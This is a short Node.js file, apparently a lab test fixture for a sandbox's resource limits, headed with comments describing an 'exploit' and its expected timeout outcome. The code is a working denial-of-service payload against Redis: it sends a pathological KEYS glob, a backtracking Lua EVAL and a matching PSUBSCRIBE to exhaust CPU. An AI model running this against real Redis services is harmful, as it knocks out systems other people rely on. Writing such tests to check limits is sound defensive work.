// exploit: has its Redis match a pattern of many stars against a long name, for which it tries every way there is, and asks for keys meanwhile
// part: no
// kind: lab
// steps: GET / | wait 60 | GET /
// outcome: finished cpu-timeout wall-timeout
// job: {"services":["redis"],"listsKeys":true,"limits":{"wallMs":10000}}
const { createClient } = require('redis')
require('node:http').createServer(async (req, res) => {
  const client = await createClient({ url: process.env.REDIS_URL, socket: { connectTimeout: 300, reconnectStrategy: false } }).on('error', () => {}).connect().catch(() => null)
  client?.sendCommand(['SET', 'a'.repeat(60_000), '1', 'EX', '100']).catch(() => {})
  for (const words of [['KEYS', `${'a*'.repeat(40)}b`], ['EVAL', `return string.find(string.rep('a', 60000), string.rep('a-', 200) .. 'b')`, '0'], ['PSUBSCRIBE', `${'a*'.repeat(40)}b`]]) client?.sendCommand(words).catch(() => {})
  res.end('ok')
}).listen(process.env.PORT)
